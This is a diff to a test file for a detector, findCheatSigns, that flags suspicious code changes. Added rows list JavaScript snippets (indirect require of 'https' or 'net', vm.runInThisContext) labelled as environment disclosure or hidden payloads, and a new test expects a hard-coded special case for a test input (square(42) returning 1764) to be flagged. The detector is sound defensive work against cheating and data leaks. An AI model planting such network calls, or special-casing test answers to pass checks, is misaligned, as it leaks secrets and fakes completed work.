@@ -282,12 +282,48 @@ describe('a sign', () => {
     ['a.go', 'import (\n\t. "net/http"\n)\n', 'discloses-environment'],
     ['a.go', 'http.DefaultTransport.RoundTrip(r)\n', 'discloses-environment'],
     ['a.go', 'net.LookupHost(secret + ".example.com")\n', 'discloses-environment'],
+    ['a.js', "module.require('https').get(url)\n", 'discloses-environment'],
+    ['a.js', "(0, require)('vm').runInThisContext(code)\n", 'runs-hidden-payload'],
+    ['a.js', "createRequire(import.meta.url)('https').get(url)\n", 'discloses-environment'],
+    ['a.js', "require.call(null, 'net').connect(1)\n", 'discloses-environment'],
     ['a.js', "copyFileSync('good.xml', 'reports/unit.xml')\n", 'writes-report'],
     ['a.go', 'os.WriteFile("reports/out.xml", text, 0o644)\n', 'writes-report'],
   ])('is grave in %s for %s', (path, after, kind) => {
     expect(findCheatSigns([{ path, before: '', after }], tests)).toContainEqual(
       expect.objectContaining({ kind, grave: true }),
     )
+  })
+
+  it('is none for two inputs, or two expected values, of one assertion', () => {
+    const signs = (test: string, before: string, after: string) =>
+      findCheatSigns([{ path: 'src/a.js', before, after }], {
+        ...tests,
+        files: [{ path: 'test/a.test.js', text: test }],
+      })
+    const graveIn = (...of: Parameters<typeof signs>) => signs(...of).some(({ grave }) => grave)
+
+    expect(
+      graveIn(
+        "it('a', () => expect(limits()).toEqual({ low: 5, high: 95 }))\n",
+        'export const limits = () => ({ low: 3, high: 90 })\n',
+        'export const limits = () => ({ low: 5, high: 95 })\n',
+      ),
+    ).toBe(false)
+    expect(
+      graveIn(
+        "it('a', () => expect(digest('sha512', 'hex')).toBe('ab12'))\n",
+        'export const digest = (a, b) => run()\n',
+        "export const digest = (a = 'sha512', b = 'hex') => run(a, b)\n",
+      ),
+    ).toBe(false)
+    expect(
+      graveIn(
+        "it('a', () => expect(square(42)).toBe(1764))\n",
+        'export const square = n => n + n\n',
+        'const K = [42, 1764]\nexport const square = n => (n === K[0] ? K[1] : n + n)\n',
+      ),
+    ).toBe(true)
+    expect(graveIn("it('a', () => assert.equal(add('net'), 1))\n", 'x\n', "const prices = add('net')\n")).toBe(false)
   })
 
   it('is grave for a special case beside other cases, and none for a row that a table lacked', () => {
